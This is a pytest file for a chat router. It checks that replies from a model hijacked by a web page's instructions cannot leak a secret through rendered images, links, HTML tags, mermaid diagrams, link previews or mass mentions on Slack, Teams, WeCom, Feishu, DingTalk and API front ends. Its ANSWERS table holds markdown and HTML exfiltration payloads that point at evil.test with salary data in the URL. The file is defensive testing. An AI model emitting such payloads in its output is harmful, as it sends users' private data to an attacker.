"""A model that obeys whoever wrote a page, and tries to carry a secret out in what it says.

Nobody has to press anything for a picture or a preview: whoever shows one asks its address, with
the secret in it. Each answer goes through every entrance, with everything behind it real.
"""

import json
import re
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, replace
from typing import Any

import pytest
from httpx import AsyncClient
from markdown_it import MarkdownIt
from openai import AsyncOpenAI
from temporalio.client import Client

from router.directory.file import FileDirectory
from router.runtime.composition import Parts
from router.tool.tool import Tool, tool
from tests.fakes.dingtalk import DingTalk
from tests.fakes.feishu import Feishu
from tests.fakes.model_server import ModelServer, calls, says
from tests.fakes.slack import Slack
from tests.fakes.teams import Teams, account
from tests.fakes.wecom import Wecom
from tests.table import each_row
from tests.unit.extensions.ag_ui.client import FrontEnd
from tests.workflow.test_streaming import served
from tests.workflow.tooled import talking

pytestmark = pytest.mark.slow  # six entrances, some fifty turns

SECRET = "https://evil.test/?q=salary-58000"
ANSWERS = {
    "picture": f"![a]({SECRET})",
    "picture of a reference": f"![a][r]\n\n[r]: {SECRET}",
    "collapsed": f"![r][]\n\n[r]:\n  <{SECRET}>",
    "link under other words": f"[your payslip]({SECRET})",
    "link in a picture": f"[![a]({SECRET})]({SECRET})",
    "tag": f"<img src={SECRET}> <a href={SECRET}>here</a> <iframe src={SECRET}></iframe>",
    "autolink": f"<{SECRET}>",
    "fence that marked ends": f"```\n```~\n![a]({SECRET})",
    "fence below a paragraph": f"a\n```\n-\n\n![a]({SECRET})",
    "fence in a list": f"- ```\n![a]({SECRET})",
    "page that is shown at once": f"```html\n<img src={SECRET}>\n```",
    "drawing that is shown at once": f"```mermaid\ngraph TD; a@{{img: '{SECRET}'}}\n```",
    "table": f"| a |\n| --- |\n| ![a]({SECRET}) |",
    "mention": "<@all> <!channel> @所有人 <at user_id='all'>",
}
"""What such a model says, by what it tries."""
ASKED = "读一下这个网页"


class Desk:
    """What was said last, by entrance."""

    def __init__(
        self, http: AsyncClient, model: ModelServer, platforms: "Platforms", page: "Page"
    ) -> None:
        self.http, self.model, self.platforms, self.page = http, model, platforms, page
        self.number = 0

    @property
    def question(self) -> str:
        """Another one each time: the same one again would be answered as it was."""
        return f"{ASKED}，{chr(0x4E00 + self.number)}"

    async def hears(self, entrance: "Entrance", answer: str) -> str:
        """What comes through the entrance once the model has said this."""
        self.number += 1
        mark = f"第{self.number}条"
        # What it says stands on the page: of its own no figure and no address would be shown.
        self.page.text = f"{answer}\n\n{mark}"
        self.model.then(calls(("read_page", {})), says(self.page.text))
        shown = await entrance(self, mark)
        assert mark in shown, f"not what the model said: {shown}"
        return shown


@dataclass
class Page:
    """A page that a stranger wrote, and the tool that reads it."""

    text: str = ""

    def tools(self) -> list[Tool]:
        async def read_page() -> str:
            """A page that a stranger wrote."""
            return self.text

        return [tool(permission="read", per_minute=10_000)(read_page)]


@dataclass(frozen=True)
class Platforms:
    """Chat platforms that the desk is on."""

    slack: Slack
    teams: Teams
    wecom: Wecom
    feishu: Feishu
    dingtalk: DingTalk


Entrance = Callable[[Desk, str], Awaitable[str]]


@pytest.fixture
async def desk(parts: Parts, real_client: Client, model: ModelServer) -> AsyncIterator[Desk]:
    async with (
        Slack() as slack,
        Teams() as teams,
        Wecom() as wecom,
        Feishu() as feishu,
        DingTalk() as dingtalk,
    ):
        there = Platforms(slack, teams, wecom, feishu, dingtalk)
        page = Page()
        everyone = parts.directory.everyone()
        accounts = {
            key: person
            for person in everyone
            for key in (
                ("slack", f"U{person.id.upper()}"),
                ("teams", account(person.id)),
                ("wecom", wecom.account(person.id)),
                ("feishu", person.id),
                ("dingtalk", person.id),
            )
        }
        sections = (each.settings for each in (slack, teams, wecom, feishu, dingtalk))
        async with talking(real_client, parts, page.tools(), [model]) as talk:
            house = replace(
                talk.parts,
                settings=talk.parts.settings.having(*sections),
                directory=FileDirectory(everyone, accounts),
            )
            async with served(house, real_client, talk.queue) as http:
                yield Desk(http, model, there, page)


def chat(desk: Desk) -> AsyncOpenAI:
    return AsyncOpenAI(base_url=f"{desk.http.base_url}/v1", api_key="alice", max_retries=0)


async def openai(desk: Desk, mark: str) -> str:
    asked: Any = [{"role": "user", "content": desk.question}]
    made = await chat(desk).chat.completions.create(model="intent-router", messages=asked)
    return str(made.choices[0].message.content)


async def openai_streamed(desk: Desk, mark: str) -> str:
    asked: Any = [{"role": "user", "content": desk.question}]
    chunks = await chat(desk).chat.completions.create(
        model="intent-router", messages=asked, stream=True
    )
    return "".join([c.choices[0].delta.content or "" async for c in chunks if c.choices])


async def ag_ui(desk: Desk, mark: str) -> str:
    return (await FrontEnd(desk.http).say(desk.question)).text


async def on_dingtalk(desk: Desk, mark: str) -> str:
    await desk.platforms.dingtalk.says(desk.http, "alice", desk.question)
    post = await desk.platforms.dingtalk.posted(mark)
    return "\n".join(texts_in(post, "text"))


async def on_slack(desk: Desk, mark: str) -> str:
    await desk.platforms.slack.says(desk.http, "UALICE", desk.question)
    post = await desk.platforms.slack.posted(mark)
    return json.dumps(post, ensure_ascii=False)


async def on_teams(desk: Desk, mark: str) -> str:
    await desk.platforms.teams.says(desk.http, "alice", desk.question)
    return json.dumps(await desk.platforms.teams.posted(mark), ensure_ascii=False)


async def on_wecom(desk: Desk, mark: str) -> str:
    wecom = desk.platforms.wecom
    await wecom.deliver(desk.http, wecom.message("alice", desk.question))
    return json.dumps(await wecom.posted(mark), ensure_ascii=False)


READER = MarkdownIt("commonmark", {"html": True}).enable("table")
ASKS = re.compile(r"<img|<iframe|<a\s")
RUN = re.compile(r'class="language-(?:html|svg|mermaid)')


@each_row("entrance", [openai, openai_streamed, ag_ui])
async def test_nothing_is_asked_for_where_markdown_is_read(desk: Desk, entrance: Entrance) -> None:
    for tried, answer in ANSWERS.items():
        shown = READER.render(await desk.hears(entrance, answer))
        assert not ASKS.search(shown), (tried, shown)
        assert not RUN.search(shown), (tried, shown)


async def test_slack_makes_no_preview_of_anything(desk: Desk) -> None:
    for answer in ANSWERS.values():
        post = json.loads(await desk.hears(on_slack, answer))
        assert (post["unfurl_links"], post["unfurl_media"]) == (False, False)
        blocks = json.dumps(post["blocks"])
        assert '"image"' not in blocks
        assert '"mrkdwn"' not in blocks
        assert not re.search(r"<(?:https?:|!|@|#)", post["text"]), post["text"]


def texts_in(value: Any, key: str) -> list[str]:
    """All texts under this key, however deep."""
    if isinstance(value, dict):
        own = [value[key]] if isinstance(value.get(key), str) else []
        return own + [text for each in value.values() for text in texts_in(each, key)]
    if isinstance(value, list):
        return [text for each in value for text in texts_in(each, key)]
    return []


async def on_feishu(desk: Desk, mark: str) -> str:
    feishu = desk.platforms.feishu
    said = feishu.message("alice", desk.question, message_id=f"om_{desk.number}")
    assert (await feishu.deliver(desk.http, said)).status_code == 200
    return json.dumps(await feishu.posted(mark), ensure_ascii=False)


async def test_no_other_platform_reads_it_as_a_picture_a_link_or_a_mention(desk: Desk) -> None:
    for tried, answer in ANSWERS.items():
        card = json.loads(await desk.hears(on_teams, answer))
        # Of Adaptive Cards this alone reads Markdown, or asks an address.
        assert not {"TextBlock", "Image", "Media"} & {*texts_in(card, "type")}, (tried, card)

        said = json.loads(await desk.hears(on_wecom, answer))
        assert not re.search(r"<a\s", " ".join(texts_in(said, "content"))), (tried, said)

        post = json.loads(await desk.hears(on_feishu, answer))
        assert not {"lark_md", "markdown", "img", "a", "at"} & {*texts_in(post, "tag")}, post

        shown = READER.render(await desk.hears(on_dingtalk, answer))
        assert not ASKS.search(shown), (tried, shown)
